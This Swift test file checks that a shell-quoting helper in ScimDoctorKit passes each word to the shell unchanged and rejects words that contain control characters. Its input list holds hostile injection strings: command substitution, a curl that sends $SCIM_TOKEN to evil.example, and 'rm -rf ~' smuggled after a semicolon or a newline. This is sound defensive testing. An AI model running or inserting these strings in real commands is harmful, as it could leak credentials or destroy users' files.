import Foundation
import Testing

@testable import ScimDoctorKit

/// A printed command, pasted into a real shell, runs exactly the one command it names, whatever the server chose.
@Suite("Shell commands")
struct ShellCommandTests {
    static let hostile = [
        "x'$(touch .pwned)'", "x'&curl -s $SCIM_TOKEN@evil.example&'", "a b", "`id`", "$(id)", "x;rm -rf ~", "'", "''",
        "\\'", "ünïcödé", "a\"b", "!event", "~root", "*",
    ]

    @Test("a quoted word reaches the program as exactly one argument, unchanged", arguments: hostile)
    func quotedWordSurvivesAShell(word: String) throws {
        let quoted = try #require(ShellCommand.quote(word))
        let process = Process()
        process.executableURL = URL(fileURLWithPath: "/bin/sh")
        let directory = FileManager.default.temporaryDirectory.appendingPathComponent("shell-\(UUID())")
        try FileManager.default.createDirectory(at: directory, withIntermediateDirectories: true)
        defer { try? FileManager.default.removeItem(at: directory) }
        process.currentDirectoryURL = directory
        process.arguments = ["-c", "printf '%s\\n' \(quoted) | od -An -c; printf '%s' \(quoted) > out"]
        process.environment = ["PATH": "/usr/bin:/bin", "SCIM_TOKEN": "secret"]
        process.standardOutput = FileHandle.nullDevice
        try process.run()
        process.waitUntilExit()
        #expect(process.terminationStatus == 0)
        let out = try String(contentsOf: directory.appendingPathComponent("out"), encoding: .utf8)
        #expect(out == word)
        #expect(!FileManager.default.fileExists(atPath: directory.appendingPathComponent(".pwned").path))
    }

    @Test("no command is printed for a word with a control character; the stand-in is a comment")
    func controlCharacters() {
        #expect(ShellCommand.quote("a\nrm -rf ~") == nil)
        #expect(ShellCommand.quote("a\u{1B}b") == nil)
        #expect(ShellCommand.none("id has a line break\nrm") == "# no command: id has a line breakrm")
    }
}
